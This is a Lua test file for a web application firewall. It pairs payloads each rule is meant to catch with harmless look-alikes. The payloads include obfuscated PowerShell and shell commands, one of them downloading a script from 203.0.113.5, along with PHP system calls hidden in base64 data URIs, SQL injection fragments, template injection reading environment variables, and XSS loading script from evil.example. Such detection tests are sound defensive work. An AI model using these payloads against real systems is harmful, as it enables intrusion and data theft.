local rule_checks = require "rule_checks"

-- The sixtieth set on (tests/edge_security/family_gen_blind_sixt*.py): seventh authors of the rule titles, a
-- fourth author of fragments and a scanner's probes. The families they found uncovered and the prose beside
-- them, value by value (our own spellings, not the sets').
describe("edge.waf.rules sixtieth set on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("PowerShell: a cmdlet or alias spelled with escape ticks inside the word", function()
        caught_by(132190, { "I`nvoke-Expression $c", "Inv`oke-WebRequest http://203.0.113.5/a.ps1",
            "St`art-Pro`cess calc.exe", "in`voke-`expression", "n`e`w-object net.webclient" })
        clean({ "use `git status` then `Get-Help`", "the docs of `start-process` and `Get-Help`",
            "a`b, x`y and `code`-ish notes" })
    end)

    it("shell: builtins, probes and interpreter switches in the shell's quoting, history by prefix", function()
        caught_by(132280, { "; a''lias x=id", "|hi's't'ory -c", "`w\\hoami`", ".sh'e'll id", "&& !ca", "; !vi",
            "x; py\"th\"on -c 'import os'", "`u'n'ame -a`" })
        clean({ "color: red; !important", "great news; !!! see you", "Q&A !", "tom && jerry", "rock 'n' roll; !wow!",
            "a;b;!c d e f", "my alias is 'Bob'", "our history's c-suite", "(that's it) `code`" })
    end)

    it("shell: a command word hiding the shell's quoting inside it, whatever follows", function()
        caught_by(132290, { "c''at x", "c\\at notes.txt", "ca$@t x", "p^ow^ershell -c x", "p\"owershe\"ll", "wh''oami",
            "'c'at x", "x; un'a'me" })
        clean({ "I''d love to", "O''Brien and D''Arcy", "rock'n'roll", "it's 'ls' and \"cat\"",
            '{"id":1,"a":"b","set":2}',
            "a^b and c^d", "don''t", "the 'id' field", "Mc\"Donald\"s",
            "PowerShell AD sync (\\\\mgmt01\\scripts\\Sync-Users.ps1)" })
    end)

    it("PHP and XSS: a decoder's result or a string array's item called, a global's sink by bracket", function()
        caught_by(133100, { "(strrev('metsys'))('id')", '["sys"."tem"][0]("id")', "['system'][0]/**/('id')",
            "(str_rot13('flfgrz'))($_GET[c])" })
        caught_by(141140, { "content['alert'](1)", "opener['eval']('x')" })
        clean({ "see (strrev is slow) (really)", "the ['a'][0] item (first)", "content['title'] is shown (twice)" })
    end)

    it("SQLi: a dozen SQL-special characters with hardly a word, integers at a 32- or 64-bit boundary", function()
        caught_by(142340, { "((((((((((((1))))))))))))", "!@#$%^&*()_+{}|:<>?~`-=[]", "@@@@@@@@@@@@@",
            "%27%22%28%29%3B%3C%3E%7B%7D%5B%5D%7C%26%21%40", "')));--;--;--;--" })
        caught_by(142350, { "0x7fffffff", "0xFFFFFFFF", "2147483648", "+4294967296", "0009223372036854775808", "18446744073709551615.0",
            "2.2250738585072011e-308", "1e309" })
        clean({ "------------------", "=============", "!!!!!!!!!!!!!!!!!!", "???!!!???!!!", ":-) :-) :-) :-)",
            "日本語「これ」「それ」「あれ」「どれ」「なに」「だれ」", "O'Brien", "'hello'", "rock 'n' roll",
            "12345678901", "3.14159265358979", "a'b'c'd'e'f'g'h'i'j'k'l'm'n'", "[[[ draft ]]] (((see notes)))" })
    end)

    it("Node.js and shell: an endless loop on any truthy constant, top after a separator with a flag", function()
        caught_by(135120, { "while (!false) {}", "while(!null){}", "while(!undefined){}", "while(Infinity){}",
            "while (!!{}) {}" })
        caught_by(132105, { "|top -b -n1", "; top -o %CPU" })
        clean({ "while (x) {}", "while (!done) {}", "while(!queue.empty()){}", "top -5 ideas", "; top 10 songs",
            "top of the list | top picks" })
    end)

    it("PHP and others: a literal echoed, a string broken open, a product printed; FreeMarker's version", function()
        caught_by(134120, { "${.version}", "${.time_zone}" })
        caught_by(133160, { "echo 7*7;", "print(1234*5678);", "x';var_dump('probe');", "\".(49*49).\"",
            "'.sleep(5).'", "res.end(String(4242*1337))", "console.log(31*337)" })
        clean({ "echo 'hello' in bash prints hello", "print(x)", "I said print; then left", "exit;", "echo;",
            "log(10*10) is 2", "the price (12 * 12) each", "'.' . '.'", "echo 'hi' | wc -c" })
    end)

    it("PHP: code inside a data: URI's base64 content, an image's header before it", function()
        caught_by(132120, { "data:image/gif;base64,R0lGODlhPD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
            "data: text/plain;base64,PD9waHAgc3lzdGVtKCdscycpOz8+" })
        clean({ "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA" })
    end)

    it("SQLi: UNION or ALTER ending a value after a quote or number, an operand equal to itself, hex text", function()
        caught_by(142360, { "1 union", "' union all", "')) alter", "'\tunion", "x like x", "('a')=('a')",
            "a=a" })
        caught_by(142360, { "-1/**/union", "' between 1 and 2", "' IS NOT NULL", "x')LIKE('x", "x') = ('x",
            "'or'", "\"OR\"", "'-0||'", ") where 1=1", "')where(1=1", "from users limit 1", "1 limit 1,1",
            "case (select 1) when 1 then 'a' end", "1 = any(select 1)", "1 > all (select 1)", "x=(select * from t)",
            "(select user())" })
        caught_by(142370, { "@a:=1", "@a := 1", "'{\"x\":1}'::jsonb", "json_object('a',user())",
            "shutdown with nowait", "against('x' with query expansion)", "execute immediate :sql", "call p()",
            "count(*)", "uuid()", "md5 (1)" })
        caught_by(142370, { "`users`.`password`", "`users` . `password`", "`a`,`b`", "where a=0x61", "/*+ index(t) */", "1.e.user", "1.e.`user`" })
        caught_by(142330, { "sysdate()", "SYSDATE()", "db_name()" })
        caught_by(142370, { "0x61646d696e", "0X414243", "x'4142'", "openrowset", "utl_http.request",
            "DBMS_PIPE . RECEIVE_MESSAGE", "sqlite_temp_master", "msdb.dbo.backupset" })
        clean({ "12 Union St", "union station", "the union", "1=1", "1 = 1", "a = b", "I like it", "0x80070643",
            "0xFF0000", "0x7ffeefbff5c8", "0x1234", "0x41414141", "xp_gamer", "sp_who", "pg_dump",
            "1/**/union/**/all", "`a`, `b` and `c`", "use `users`.", "v1.e.2 notes", "email me @ann: the lead", "we execute immediate changes", "call mom (tonight)",
            "json files", "the count (roughly)", "(select one from the list)", "(select all that apply)", "no limit 2,3 days", "(see below) where it says", "from home limit 2 kids",
            "the system date" })
    end)

    it("the seventieth on: handlers and sinks assigned from script, $[ ] arithmetic, the double past its max", function()
        caught_by(141280, { "'}};window.onload=alert;//", "document.onclick=function(){x()}", "['innerHTML']=",
            "src=//evil.example/x.js", "href = '//cdn.evil.example/a'" })
        caught_by(132110, { "$[7*7]", ";echo $[1+1]" })
        caught_by(142350, { "1.7976931348623157e+309" })
        caught_by(142330, { "mid(version(),1,1)" })
        clean({ "window.onload is where we init", "the src=images folder", "x['innerHTML'] == y", "prices $[12] each",
            "1.7976931348623157e308", "mid (2024)", "href=/docs/a" })
    end)

    it("PHP: a configuration, callback or network function's name alone, quoted, namespaced or nested", function()
        caught_by(133150, { "ini_get_all", "get_cfg_var", "'curl_multi_exec'", "\\pcntl_exec", "x=php_uname",
            "ReflectionFunction", "apache_setenv()", "MB_SEND_MAIL", "parse_ini_file", "array_map", "ob_start;" })
        clean({ "system", "symlink", "mail", "first_name", "sort=name", "get_started", "proc_ids", "users", "curl",
            "array of maps", "ini file", "x=map" })
    end)

    it("Java and generic: a file name that runs as a JSP page, a session identifier set as a value", function()
        caught_by(144190, { "cmd.jsp", "up.jspx", "part.jspf", "a.jsp;x.gif", "a.jsp.", "a.jsp::$DATA", "me.jpg.jsp",
            "X.JSW" })
        clean({ "https://example.com/index.jsp", "jsp tutorial", "the .jsp files", "jsp", "page.json", "app.js" })
        caught_by(136130, { "PHPSESSID=deadbeef", "jsessionid=ABC123DEF", "ASP.NET_SessionId=qwerty12", "cfid=1234",
            "session_id=fixed-one" })
        caught_by(136130, { "/cart;jsessionid=0AB12", "https://x.example/login?PHPSESSID=abc", "a=1&CFTOKEN=99",
            "'.cookie=\"sess=1" })
        clean({ "session id = ?", "my sid is 42", "sessionid", "sid=1", "phpsessid cookie missing",
            "level=warn session_id=4f2a user=ann", "the cookie=yummy one" })
    end)

    it("templates: Razor reading .NET's environment, Node's process object in a template expression", function()
        caught_by(134150, { "@System.Environment.UserName", "@AppDomain.CurrentDomain.FriendlyName",
            "@(System.Environment.OSVersion)", "@( System . IO . File . ReadAllText ( \"a\" ) )" })
        clean({ "ops@system.net", "ann@environment.org", "the System.Environment class", "@appdomain team" })
        caught_by(135140, { "#{process.env}", "${ process.argv }", "= process.version", "span= process.env.HOME",
            "#[b= process.env]" })
        clean({ "set process.env.PORT in .env", "the process envelope", "process = hard", "x=process.envoy",
            "process", "our process.md notes", "process.env.DB_PASSWORD",
            "the base is ${process.env.API_URL}/v1 in prod", "fetch(`${process.env.API}/users`)" })
    end)

    it("SQL: a word and a closing double quote, a backslash ending the value", function()
        caught_by(142320, { "root\"", "carol\" ;", "bob\\", "\\\"", "svc.account\\'" })
        clean({ "55\"", "27\"", "\"exact phrase\"", "C:\\", "O'Brien", "say \"hi\" to bob", "back\\slash here" })
    end)

    it("SQL: an operator or clause after a closed string or a leading number", function()
        caught_by(142380, { "2 RLIKE 0x62", "q' not like 3", "7 regexp binary 'z'", "' between 1 and 9", "4 left join t on a=b",
            "') inner join admin a on 1=1 --", "3 group by name having 2", "k' or 2 not in (3)--", "z\") when 2 then 1 end #" })
        clean({ "1 like 2 people", "`string.Join(\", \", names)` in C#", "I'd like 2 tickets",
            "2 join us on Friday", "it's between 2 and 3 pm", "the 'group by' clause", "Rock 'n' roll or blues -- all fine",
            "\"Hamlet\" in London", "10 like buttons" })
    end)

    it("shell: a command path spelled with glob wildcards", function()
        caught_by(132300, { "/usr/b?n/whoami", "/b?n/c?t x", ";/s*n/ifconfig", "|/???/?s -l", "$(/b[i]n/id)" })
        clean({ "/api/*/users", "/home/*/docs", "see /*/ for all", "10/*2*/3", "GET /users/*", "/static/*.css",
            "found/**/herself/**/a heroine", "x /**/id" })
    end)

    it("XSS: a javascript: URL whose comment a line break ends", function()
        caught_by(141130, { "javascript://x%0aprompt(2)", "JavaScript://a\\nconfirm(3)", "javascript://%250Aeval(name)",
            "javascript://c\nprint()" })
        clean({ "javascript://comment", "see javascript://docs for more", "javascript: // not a url" })
    end)
end)
